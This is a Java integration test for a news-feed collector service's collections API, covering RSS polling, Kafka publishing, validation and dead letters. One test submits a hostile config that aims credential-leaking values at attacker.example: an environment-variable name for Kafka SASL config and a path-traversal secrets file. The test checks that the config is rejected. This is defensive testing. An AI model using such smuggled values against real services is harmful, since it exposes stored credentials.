package org.evidencepipeline.collector.collection.api;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import org.eclipse.microprofile.config.inject.ConfigProperty;
import org.evidencepipeline.collector.TestFeeds;
import org.evidencepipeline.collector.source.rss.RssIds;
import org.evidencepipeline.contracts.CollectorDeadLetter;
import org.evidencepipeline.contracts.EventCodec;
import org.evidencepipeline.contracts.PostCollected;
import org.evidencepipeline.contracts.Topics;
import org.evidencepipeline.testsupport.ApiTestTokens;
import org.evidencepipeline.embedded.FeedReplayServer;
import org.evidencepipeline.testsupport.KafkaBrokerResource;
import org.evidencepipeline.testsupport.TopicProbe;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.util.List;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.hasSize;

/** The running collector service: collections over REST, polls publishing keyed posts to the real broker. */
@QuarkusTest
@QuarkusTestResource(KafkaBrokerResource.class)
class CollectionsResourceTest {
    static FeedReplayServer feed;

    @ConfigProperty(name = "kafka.bootstrap.servers")
    String bootstrap;

    private final EventCodec codec = new EventCodec();

    @BeforeAll
    static void startFeed() {
        feed = FeedReplayServer.start();
        feed.serve("/kharkiv.xml", TestFeeds.bytes("kharkiv-news.rss.xml"), "application/rss+xml");
        feed.serve("/broken.xml", TestFeeds.bytes("xxe.rss.xml"), "application/rss+xml");
    }

    @AfterAll
    static void stopFeed() {
        feed.close();
    }

    private String collection(String id, String sourceId, String path, String keywords) {
        return """
                {"id":"%s","name":"Test %s","keywords":%s,
                 "sources":[{"id":"%s","type":"rss","url":"%s","interval":"PT10M"}]}
                """.formatted(id, id, keywords, sourceId, feed.url(path));
    }

    @Test
    void pollPublishesEachCaughtPostOnceKeyedByPostId() {
        given().auth().oauth2(ApiTestTokens.ADMIN).contentType(ContentType.JSON).body(collection("kharkiv", "kharkiv-news", "/kharkiv.xml", "[\"Харків\", \"Харкові\"]"))
                .post("/collections").then().statusCode(201).body("id", equalTo("kharkiv"));
        given().auth().oauth2(ApiTestTokens.ADMIN).contentType(ContentType.JSON).body(collection("everything", "kharkiv-news", "/kharkiv.xml", "[]"))
                .post("/collections").then().statusCode(201);

        given().auth().oauth2(ApiTestTokens.ADMIN).post("/collections/kharkiv/poll").then().statusCode(200)
                .body("sources.kharkiv-news.postsPublished", equalTo(3));
        given().auth().oauth2(ApiTestTokens.ADMIN).post("/collections/kharkiv/poll").then().statusCode(200)
                .body("sources.kharkiv-news.postsPublished", equalTo(3));

        TopicProbe probe = new TopicProbe(bootstrap);
        List<TopicProbe.Read> records = probe.readUntil(Topics.POSTS_COLLECTED, r -> r.size() >= 3, Duration.ofSeconds(20)).records();
        assertThat(records).hasSize(3);
        assertThat(records).allSatisfy(r -> assertThat(codec.read(r.value(), PostCollected.class).postId()).isEqualTo(r.key()));
        PostCollected explosions = records.stream().map(r -> codec.read(r.value(), PostCollected.class))
                .filter(p -> p.platformId().equals(RssIds.platformId(feed.url("/kharkiv.xml"), "news.example.org-48211"))).findFirst().orElseThrow();
        assertThat(explosions.collectionIds()).containsExactlyInAnyOrder("kharkiv", "everything");
        PostCollected power = records.stream().map(r -> codec.read(r.value(), PostCollected.class))
                .filter(p -> p.platformId().equals(RssIds.platformId(feed.url("/kharkiv.xml"), "news.example.org-48215"))).findFirst().orElseThrow();
        assertThat(power.collectionIds()).as("does not mention Харків").containsExactly("everything");
        assertThat(power.collector().name()).isEqualTo("collector");

        given().auth().oauth2(ApiTestTokens.ADMIN).delete("/collections/everything").then().statusCode(204);
        given().auth().oauth2(ApiTestTokens.ADMIN).delete("/collections/kharkiv").then().statusCode(204);
    }

    @Test
    void unreadableFeedBecomesADeadLetterWithTheReason() {
        given().auth().oauth2(ApiTestTokens.ADMIN).contentType(ContentType.JSON).body(collection("broken", "broken-feed", "/broken.xml", "[]"))
                .post("/collections").then().statusCode(201);
        given().auth().oauth2(ApiTestTokens.ADMIN).post("/collections/broken/poll").then().statusCode(200)
                .body("sources.broken-feed.lastError", containsString("DOCTYPE"));
        given().auth().oauth2(ApiTestTokens.ADMIN).post("/collections/broken/poll").then().statusCode(200)
                .body("sources.broken-feed.lastError", containsString("DOCTYPE"))
                .body("sources.broken-feed.failureRepeats", equalTo(2));

        List<TopicProbe.Read> letters = new TopicProbe(bootstrap)
                .readUntil(Topics.DEAD_LETTER_COLLECTOR, r -> r.stream().anyMatch(x -> "broken-feed".equals(x.key())), Duration.ofSeconds(20))
                .records();
        assertThat(letters.stream().filter(r -> "broken-feed".equals(r.key()))).as("the same failure twice, one dead letter").hasSize(1);
        CollectorDeadLetter letter = letters.stream().filter(r -> "broken-feed".equals(r.key()))
                .map(r -> codec.read(r.value(), CollectorDeadLetter.class)).findFirst().orElseThrow();
        assertThat(letter.reason()).contains("DOCTYPE");
        assertThat(letter.excerpt()).contains("<!DOCTYPE rss");
        given().auth().oauth2(ApiTestTokens.ADMIN).delete("/collections/broken").then().statusCode(204);
    }

    @Test
    void invalidCollectionGets400ListingEveryProblem() {
        given().auth().oauth2(ApiTestTokens.ADMIN).contentType(ContentType.JSON)
                .body("{\"id\":\"Bad Id\",\"sources\":[{\"id\":\"s\",\"type\":\"fax\",\"url\":\"gopher://x\"}]}")
                .post("/collections").then().statusCode(400)
                .body("error", equalTo("invalid collection"))
                .body("problems", hasSize(3))
                .body("problems", hasItem(containsString("type 'fax'")));
    }

    @Test
    void aTokenFromAnyOtherVariableOrPathGets400NamingTheRuleNeverTheValue() {
        String body = given().auth().oauth2(ApiTestTokens.ADMIN).contentType(ContentType.JSON)
                .body("""
                        {"id":"exfil","keywords":["x"],"sources":[
                          {"id":"a","type":"mastodon","url":"https://attacker.example","params":{"token-env":"KAFKA_SASL_JAAS_CONFIG"}},
                          {"id":"b","type":"reddit","url":"https://attacker.example","params":{"subreddit":"x","token-file":"../../run/secrets/kafka"}}]}
                        """)
                .post("/collections").then().statusCode(400)
                .body("problems", hasItem(containsString("COLLECTOR_TOKEN_")))
                .body("problems", hasItem(containsString("plain file name")))
                .extract().asString();
        assertThat(body).doesNotContain("KAFKA_SASL_JAAS_CONFIG").doesNotContain("run/secrets");
        given().auth().oauth2(ApiTestTokens.ADMIN).get("/collections/exfil").then().statusCode(404);
    }

    @Test
    void theCaptureBlockIsShownWithItsDefaultsAndARateBelowOneGets400() {
        given().auth().oauth2(ApiTestTokens.ADMIN).contentType(ContentType.JSON).body(collection("pages-default", "pd-src", "/kharkiv.xml", "[]"))
                .post("/collections").then().statusCode(201)
                .body("capture.pages", equalTo(true)).body("capture.host-pages-per-minute", equalTo(6))
                .body("capture.videos", equalTo(true));
        String quiet = collection("pages-off", "po-src", "/kharkiv.xml", "[]")
                .replace("\"keywords\"", "\"capture\":{\"pages\":false,\"host-pages-per-minute\":2,\"videos\":false},\"keywords\"");
        given().auth().oauth2(ApiTestTokens.ADMIN).contentType(ContentType.JSON).body(quiet).post("/collections").then().statusCode(201);
        given().auth().oauth2(ApiTestTokens.ADMIN).get("/collections/pages-off").then().statusCode(200)
                .body("collection.capture.pages", equalTo(false)).body("collection.capture.host-pages-per-minute", equalTo(2))
                .body("collection.capture.videos", equalTo(false));
        String zero = collection("pages-zero", "pz-src", "/kharkiv.xml", "[]")
                .replace("\"keywords\"", "\"capture\":{\"host-pages-per-minute\":0},\"keywords\"");
        given().auth().oauth2(ApiTestTokens.ADMIN).contentType(ContentType.JSON).body(zero).post("/collections").then().statusCode(400)
                .body("problems", hasItem(containsString("capture.host-pages-per-minute 0 must be at least 1")));
        given().auth().oauth2(ApiTestTokens.ADMIN).delete("/collections/pages-default").then().statusCode(204);
        given().auth().oauth2(ApiTestTokens.ADMIN).delete("/collections/pages-off").then().statusCode(204);
    }

    @Test
    void malformedJsonAndUnknownFieldsGet400() {
        given().auth().oauth2(ApiTestTokens.ADMIN).contentType(ContentType.JSON).body("{\"id\":").post("/collections").then().statusCode(400)
                .body("error", containsString("not a valid collection"));
        given().auth().oauth2(ApiTestTokens.ADMIN).contentType(ContentType.JSON).body("{\"id\":\"x\",\"keyword\":[\"a\"],\"sources\":[]}")
                .post("/collections").then().statusCode(400).body("error", containsString("keyword"));
    }

    @Test
    void unknownCollectionIs404AndDuplicateIs409() {
        given().auth().oauth2(ApiTestTokens.ADMIN).get("/collections/nope").then().statusCode(404).body("error", containsString("nope"));
        given().auth().oauth2(ApiTestTokens.ADMIN).contentType(ContentType.JSON).body(collection("twice", "t-src", "/kharkiv.xml", "[]"))
                .post("/collections").then().statusCode(201);
        given().auth().oauth2(ApiTestTokens.ADMIN).contentType(ContentType.JSON).body(collection("twice", "t-src", "/kharkiv.xml", "[]"))
                .post("/collections").then().statusCode(409);
        given().auth().oauth2(ApiTestTokens.ADMIN).contentType(ContentType.JSON).body(collection("other", "t-src", "/kharkiv.xml", "[]"))
                .put("/collections/twice").then().statusCode(400).body("error", containsString("differ"));
        given().auth().oauth2(ApiTestTokens.ADMIN).delete("/collections/twice").then().statusCode(204);
    }

    @Test
    void topicNamesMatchTheContracts() {
        var config = org.eclipse.microprofile.config.ConfigProvider.getConfig();
        assertThat(config.getValue("mp.messaging.outgoing.posts-collected.topic", String.class)).isEqualTo(Topics.POSTS_COLLECTED);
        assertThat(config.getValue("mp.messaging.outgoing.collector-dead-letter.topic", String.class)).isEqualTo(Topics.DEAD_LETTER_COLLECTOR);
        assertThat(config.getValue("collector.cursor.topic", String.class)).isEqualTo(Topics.COLLECTOR_CURSORS);
        assertThat(config.getValue("mp.messaging.outgoing.posts-deleted.topic", String.class)).isEqualTo(Topics.POSTS_DELETED);
        assertThat(config.getValue("mp.messaging.outgoing.pages-requested.topic", String.class)).isEqualTo(Topics.PAGES_REQUESTED);
        assertThat(config.getValue("mp.messaging.outgoing.videos-requested.topic", String.class)).isEqualTo(Topics.VIDEOS_REQUESTED);
    }
}
